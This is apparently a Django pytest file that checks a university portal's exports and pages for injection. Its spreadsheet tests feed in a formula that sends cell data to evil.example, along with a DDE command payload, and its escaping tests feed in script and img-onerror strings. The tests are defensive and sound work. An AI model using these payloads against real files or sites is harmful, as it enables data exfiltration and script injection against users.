"""What the portal sends out cannot carry a user's input as code: spreadsheet exports neutralize
formulas, templates never mark input safe, and every PDF goes through the restricted fetcher.

The export check walks every URL as the office's administrator, so a new export that forgets
`intlaffairs.spreadsheets.neutralize` is found here rather than in a user's Excel.
"""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import translation

from intlaffairs.spreadsheets import FORMULA_STARTS

from ..factories import AgreementFactory, InstitutionFactory
from ..test_url_policy import all_patterns, sample_objects, students_samples, url_for

ROOT = Path(settings.BASE_DIR)
SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats", "application/vnd.ms-excel")
# Every URL that answers with a spreadsheet, and the formats it offers.
EXPORTS = {
    name: ("csv", "xlsx")
    for name in (
        "agreements:agreement_list_export",
        "agreements:institution_list_export",
        "students:application_list_export",
        "students:program_list_export",
        "exchanges:mobility_list_export",
        "exchanges:course_list_export",
        "exchanges:course_applicants_export",
        "exchanges:delegation_list_export",
        "mentoring:pairing_list_export",
        "mentoring:mentor_list_export",
        "mentoring:mentee_list_export",
        "incentives:certificate_list_export",
        "incentives:claim_list_export",
        "research:project_list_export",
        "research:scientist_list_export",
        "research:alumni_list_export",
        "students:invoice_list_export",
    )
}
# The ministry's list of foreign students is an XLSX file only.
EXPORTS["students:ministry_export"] = ("xlsx",)
# The exports whose rows show an agreement's title (the hostile cells below);
# tests/intlaffairs/test_list_exports.py checks the others' cells through the shared writer.
AGREEMENT_EXPORTS = ("agreements:agreement_list_export",)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def project_files(pattern: str):
    # mutants/ (and mutation/work/*/mutants/) hold the copies `make mutation` tests.
    skip = {".venv", "node_modules", "staticfiles", "media", ".git", "tests", "mutants"}
    for path in ROOT.rglob(pattern):
        if not skip.intersection(path.relative_to(ROOT).parts):
            yield path


def cells(response) -> list[tuple[str, bool]]:
    """The texts of a CSV or XLSX file, each with whether a spreadsheet keeps it text however
    it begins: an XLSX text cell with Excel's quote prefix (a CSV cell never is)."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
        return [(value, False) for row in rows for value in row]
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return [
        (cell.value, cell.data_type == "s" and bool(cell.quotePrefix))
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_every_spreadsheet_the_portal_answers_with_is_a_known_export(client, administrator):
    objects = sample_objects(administrator)
    client.force_login(administrator)
    found = set()
    with translation.override("en"):
        for pattern, namespace in all_patterns():
            url = url_for(pattern, namespace, objects)
            if url is None:
                continue
            response = client.get(url)
            if response.get("Content-Type", "").startswith(SPREADSHEET_TYPES):
                found.add(f"{namespace}:{pattern.name}" if namespace else pattern.name)
    assert found == set(EXPORTS), "a new export must be added to EXPORTS and tested below"


@pytest.mark.parametrize(
    ("export", "file_format"), [(name, f) for name in AGREEMENT_EXPORTS for f in EXPORTS[name]]
)
@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_exports_neutralize_every_formula_start(client, officer, export, file_format, start):
    partner = InstitutionFactory(name_en=start + "cmd|' /C calc'!A0")
    agreement = AgreementFactory(title_en=start + HOSTILE, title_fa=start + "1+1")
    agreement.partners.add(partner)
    client.force_login(officer)
    with translation.override("en"):
        url = reverse(export)
    response = client.get(f"{url}?format={file_format}")
    assert response.status_code == 200
    found = cells(response)
    assert any(HOSTILE in value for value, _kept_text in found)  # the cell is there, defused
    assert [value for value, kept in found if value.startswith(FORMULA_STARTS) and not kept] == []


def test_no_template_marks_input_safe():
    """HTML templates never switch escaping off; plain-text e-mails may (they are not HTML)."""
    unsafe = re.compile(r"\|\s*safe(seq)?\b|{%\s*autoescape\s+off|{%\s*filter\s+safe")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in project_files("*.html")
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if unsafe.search(line)
    ]
    assert offenders == []
    texts = list(project_files("*.txt"))
    assert texts, "the e-mail templates were not found"


def test_no_template_comment_spans_lines():
    """`{# … #}` ends at the end of its line: one that goes on is printed on the page (the
    pagination partial once showed its own comment under every list). Jinja2's widget
    templates (in jinja2/ folders) may: there a comment runs to its `#}`."""
    open_comments = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in project_files("*.html")
        if "jinja2" not in path.parts
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if "{#" in line and "#}" not in line.split("{#", 1)[1]
    ]
    assert open_comments == []


def test_no_python_code_marks_text_safe_or_renders_pdfs_around_the_fetcher():
    """`mark_safe` and friends appear nowhere but in the three places that make HTML from
    something that is not HTML, each tested with hostile input: the office's Markdown
    (markdown-it-py with raw HTML off escapes every text itself) and schema.org data (escaped
    as Django's json_script escapes it), in tests/website, and the menu drawn by Jinja2 with
    autoescape on (below). WeasyPrint is imported by `intlaffairs.pdf`
    alone (whose fetcher reads only our static files) and by the benchmark that compares
    the portal with plain WeasyPrint on the portal's own HTML."""
    marks = re.compile(r"\b(mark_safe|SafeString|SafeData|format_html_join)\b")
    marks_allowed = {
        Path("website/markup.py"),
        Path("website/structured_data.py"),
        Path("intlaffairs/templatetags/menu.py"),
    }
    weasyprint_allowed = {
        Path("intlaffairs/pdf.py"),
        Path("agreements/management/commands/bench_report.py"),
    }
    marked, weasy = [], []
    for path in project_files("*.py"):
        text = path.read_text()
        relative = path.relative_to(ROOT)
        if marks.search(text) and relative not in marks_allowed:
            marked.append(str(relative))
        if re.search(r"^\s*(from|import) weasyprint", text, re.M) and (
            relative not in weasyprint_allowed
        ):
            weasy.append(str(relative))
    assert marked == []
    assert weasy == []


def test_the_menu_drawn_by_jinja2_escapes_what_it_shows(officer):
    """{% portal_menu %} marks Jinja2's output safe: Jinja2 must have escaped every text in it
    (a label, an address, a badge), as Django's engine would."""
    from django.template import Context, Template

    from intlaffairs import navigation

    hostile = '<script>alert("x")</script>'
    item = navigation.NavItem(label=hostile, url_name="desk", icon='x" onmouseover="alert(1)')
    row = {"item": item, "url": '/"><img src=x>', "active": True, "count": 3, "badge": hostile}
    html = Template("{% load menu %}{% portal_menu %}").render(
        Context({"portal_nav": [{"link": row}], "user": officer})
    )
    assert "<script>" not in html and "<img" not in html and 'x" onmouseover' not in html
    assert html.count("&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;") == 2  # label, badge
    assert 'href="/&#34;&gt;&lt;img src=x&gt;"' in html


def test_a_name_full_of_markup_is_shown_as_text(client, officer, make_user):
    from intlaffairs.models import Unit

    hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    unit = Unit.objects.create(name_fa="دانشکده", name_en="School")
    application = students_samples(make_user("applicant"), unit)["application"]
    application.given_name, application.native_name = hostile, hostile
    application.save()
    client.force_login(officer)
    for url in (f"/en/students/applications/{application.pk}/", "/en/students/applications/"):
        html = client.get(url).content.decode()
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html
        assert "<script>alert(" not in html and "<img src=x" not in html
